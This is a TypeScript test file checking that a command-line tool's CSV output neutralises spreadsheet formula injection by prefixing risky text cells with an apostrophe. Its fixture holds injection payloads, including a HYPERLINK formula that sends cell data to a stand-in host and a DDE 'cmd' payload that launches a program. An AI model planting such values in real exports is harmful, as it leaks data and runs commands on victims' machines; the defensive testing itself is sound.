/**
 * CSV formula injection (OWASP): text cells a spreadsheet would run as a formula get a leading
 * apostrophe; numbers, negative amounts included, are untouched; `--raw` keeps the exact text.
 * Read back with csv-parse, as a spreadsheet import would split the fields.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvOfObjects } from '../../../src/cli/output/csv-text.js';
import { cashSaleColumns } from '../../../src/cli/output/columns/cash-sale.js';
import { renderRecords } from '../../../src/cli/output/render.js';
import { TextSink } from './sink.js';

const HOSTILE = {
  id: 7,
  issuedTo: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  issuedToPhone: '+254700000001',
  notes: '-2+3+cmd|\' /C calc\'!A0',
  refNo: '@SUM(1+1)*cmd',
  receiptNo: '\t=1+1',
  paymentMethod: '\r=1+1',
  transactionType: 'CASH',
  totalAmount: -5,
  balance: -1234.5,
  amountPaid: 0,
};

async function csv(raw: boolean): Promise<Record<string, string>> {
  const sink = new TextSink();
  await renderRecords([HOSTILE], sink, {
    format: 'csv',
    columns: cashSaleColumns,
    fields: ['id', 'issuedTo', 'issuedToPhone', 'notes', 'refNo', 'receiptNo', 'paymentMethod', 'transactionType', 'totalAmount', 'balance', 'amountPaid'],
    raw,
  });
  return (parse(sink.text, { columns: true }) as Record<string, string>[])[0]!;
}

describe('CSV formula injection', () => {
  it('puts an apostrophe before text starting with =, +, -, @, tab or CR; numbers stay numbers', async () => {
    expect(await csv(false)).toEqual({
      id: '7',
      issuedTo: `'${HOSTILE.issuedTo}`,
      issuedToPhone: "'+254700000001",
      notes: `'${HOSTILE.notes}`,
      refNo: `'${HOSTILE.refNo}`,
      receiptNo: `'${HOSTILE.receiptNo}`,
      paymentMethod: `'${HOSTILE.paymentMethod}`,
      transactionType: 'CASH',
      totalAmount: '-5.00',
      balance: '-1234.50',
      amountPaid: '0.00',
    });
  });

  it('--raw keeps the text exactly as sent', async () => {
    const row = await csv(true);
    expect(row.issuedTo).toBe(HOSTILE.issuedTo);
    expect(row.receiptNo).toBe(HOSTILE.receiptNo);
    expect(row.paymentMethod).toBe(HOSTILE.paymentMethod);
    expect(row.totalAmount).toBe('-5.00');
  });

  it('a single CSV record (sale save, dry run) is neutralised alike, numbers untouched', () => {
    expect(csvOfObjects([{ receiptNo: '=1+1', id: -3, name: 'plain' }])).toBe("receiptNo,id,name\r\n'=1+1,-3,plain\r\n");
    expect(csvOfObjects([{ receiptNo: '=1+1' }], true)).toBe('receiptNo\r\n=1+1\r\n');
  });
});
